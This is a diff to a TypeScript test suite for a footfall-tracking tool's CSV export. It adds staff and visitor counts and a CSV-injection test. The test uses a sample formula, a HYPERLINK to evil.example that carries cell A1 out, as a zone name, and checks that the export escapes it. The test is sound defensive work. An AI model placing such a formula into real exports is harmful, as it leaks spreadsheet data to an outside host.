@@ -1,7 +1,7 @@
 // CSV export of a real run of the bundled clip, checked against the Parquet it came from.
 import { test } from "node:test";
 import assert from "node:assert/strict";
-import { existsSync, readdirSync, readFileSync } from "node:fs";
+import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { exportCsv } from "../loaders/ops/export-csv.ts";
 import { withDuckDb } from "../loaders/ops/run-data.ts";
@@ -40,7 +40,8 @@ test("tracks_summary.csv: one row per track with first/last time and dwell, matc
   const truth = await sql(`SELECT track_id, min(t_seconds) AS a, max(t_seconds) AS b, count(*)::INTEGER AS n FROM '${join(runDir, "tracks.parquet")}' GROUP BY 1 ORDER BY 1`);
   assert.equal(rows.length, truth.length);
   assert.equal(r.tracks, truth.length);
-  assert.deepEqual(Object.keys(rows[0]), ["track_id", "first_frame", "last_frame", "first_seconds", "last_seconds", "dwell_seconds", "points", "observed_points", "first_x", "first_y", "last_x", "last_y"]);
+  assert.deepEqual(Object.keys(rows[0]), ["track_id", "first_frame", "last_frame", "first_seconds", "last_seconds", "dwell_seconds", "points", "observed_points", "first_x", "first_y", "last_x", "last_y", "staff"]);
+  assert.ok(rows.every((x) => x.staff === "false"), "no camera config: nobody is staff");
   for (const t of truth) {
     const row = rows.find((x) => Number(x.track_id) === t.track_id)!;
     assert.ok(row, `track ${t.track_id}`);
@@ -55,10 +56,10 @@ test("tracks_summary.csv: one row per track with first/last time and dwell, matc
 test("footfall.csv: arrivals per interval sum to the track count; people in view over every analysed frame", async () => {
   const out = join(dir, "csv");
   const rows = readCsv(join(out, "footfall.csv"));
-  assert.deepEqual(Object.keys(rows[0]), ["interval", "start_seconds", "end_seconds", "new_tracks", "people_in_view_mean", "people_in_view_max", "frames_analysed"]);
+  assert.deepEqual(Object.keys(rows[0]), ["interval", "start_seconds", "end_seconds", "visitors", "staff", "line_in", "line_out", "customers_in_view_mean", "customers_in_view_max", "frames_analysed"]);
   assert.deepEqual(rows.map((x) => [Number(x.start_seconds), Number(x.end_seconds)]), [[0, 2], [2, 4], [4, 6], [6, 7.16]]);
   const tracks = readCsv(join(out, "tracks_summary.csv")).length;
-  assert.equal(rows.reduce((s, x) => s + Number(x.new_tracks), 0), tracks);
+  assert.equal(rows.reduce((s, x) => s + Number(x.visitors), 0), tracks);
   // stride 2 over 179 frames: 90 analysed frames, 25 per 2 s interval
   assert.deepEqual(rows.map((x) => Number(x.frames_analysed)), [25, 25, 25, 15]);
   const perFrame = await sql(`SELECT frame, count(*)::INTEGER AS n FROM '${join(runDir, "tracks.parquet")}' GROUP BY 1`);
@@ -66,8 +67,8 @@ test("footfall.csv: arrivals per interval sum to the track count; people in view
   for (const [i, row] of rows.entries()) {
     const frames = Array.from({ length: 90 }, (_, k) => 2 * k).filter((f) => Math.floor(f / 25 / 2) === i);
     const ns = frames.map((f) => byFrame.get(f) ?? 0);
-    assert.ok(Math.abs(Number(row.people_in_view_mean) - ns.reduce((a, b) => a + b, 0) / ns.length) < 1e-3, `mean in interval ${i}`);
-    assert.equal(Number(row.people_in_view_max), Math.max(...ns));
+    assert.ok(Math.abs(Number(row.customers_in_view_mean) - ns.reduce((a, b) => a + b, 0) / ns.length) < 1e-3, `mean in interval ${i}`);
+    assert.equal(Number(row.customers_in_view_max), Math.max(...ns));
   }
 });
 
@@ -92,4 +93,51 @@ test("event tables in the run (events, zone visits, alerts) come out as CSV with
 test("a folder without a run gets a one-line message naming it and the fix", async () => {
   await assert.rejects(exportCsv(join(dir, "nothing"), join(dir, "csv3")), (e: unknown) => e instanceof UserError && /nothing: no run\.json there; run `smw analyze/.test(e.message));
   await assert.rejects(exportCsv(runDir, join(dir, "csv3"), { intervalSeconds: 0 }), UserError);
+});
+
+// A camera with staff (anyone in view over 3 s) and names a spreadsheet would run as formulas.
+const configured = join(dir, "configured");
+const camera = JSON.parse(readFileSync("data/camera.example.json", "utf8"));
+const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
+camera.zones[0].name = FORMULA;
+camera.zones[1].name = "-2";
+camera.lines[0].name = "@walkway";
+camera.staff = { maxDwellMinutes: 0.05 };
+writeFileSync(join(dir, "camera.json"), JSON.stringify(camera));
+const runConfigured = smw(["analyze", CLIP, "--out", configured, "--quiet", "--stride", "2", "--config", join(dir, "camera.json")]);
+
+test("footfall.csv agrees with smw report for a camera with staff: staff are left out, and counted apart", async () => {
+  assert.equal(runConfigured.code, 0, runConfigured.stderr);
+  const report = smw(["report", configured, "--json"]);
+  assert.equal(report.code, 0, report.stderr);
+  const h = JSON.parse(report.stdout);
+  assert.ok(h.staffExcluded > 0 && h.visitors > 0, `the config makes some people staff: ${report.stdout}`);
+  const out = join(dir, "csv-configured");
+  await exportCsv(configured, out, { intervalSeconds: 2 });
+  const rows = await sql(`SELECT * FROM read_csv('${join(out, "footfall.csv")}', header = true)`);
+  const sum = (k: string) => rows.reduce((s, x) => s + Number(x[k]), 0);
+  assert.equal(sum("visitors"), h.visitors);
+  assert.equal(sum("staff"), h.staffExcluded);
+  assert.equal(sum("line_in"), h.lineIn);
+  assert.equal(sum("line_out"), h.lineOut);
+  const mean = rows.reduce((s, x) => s + Number(x.customers_in_view_mean) * Number(x.frames_analysed), 0) / sum("frames_analysed");
+  assert.ok(Math.abs(mean - h.meanInView) < 1e-3, `mean customers in view ${mean} vs report ${h.meanInView}`);
+  const tracks = readCsv(join(out, "tracks_summary.csv"));
+  assert.equal(tracks.filter((x) => x.staff === "true").length, h.staffExcluded);
+});
+
+test("names that start like a formula are written as text (CSV injection); numbers stay numbers", async () => {
+  const out = join(dir, "csv-names");
+  await exportCsv(configured, out);
+  const visits = await sql(`SELECT zone, dwell_seconds FROM read_csv('${join(out, "zone_visits.csv")}', header = true, all_varchar = true)`);
+  const zones = new Set(visits.map((v) => v.zone));
+  assert.ok(zones.has(`'${FORMULA}`), `zones as written: ${[...zones].join(" | ")}`);
+  assert.ok(![...zones].some((z) => /^[=+\-@\t\r]/.test(String(z)) && z !== "-2"), "no cell starts a formula");
+  assert.ok(zones.has("-2"), "a name that is just a number is left alone");
+  const crossings = await sql(`SELECT line FROM read_csv('${join(out, "events.csv")}', header = true, all_varchar = true)`);
+  assert.ok(crossings.length > 0 && crossings.every((c) => c.line === "'@walkway"));
+  // numeric columns are untouched: durations parse as numbers
+  assert.ok(visits.every((v) => Number.isFinite(Number(v.dwell_seconds))));
+  // the raw text a spreadsheet opens: the formula is inside a quoted cell that starts with an apostrophe
+  assert.ok(readFileSync(join(out, "zone_visits.csv"), "utf8").includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`));
 });
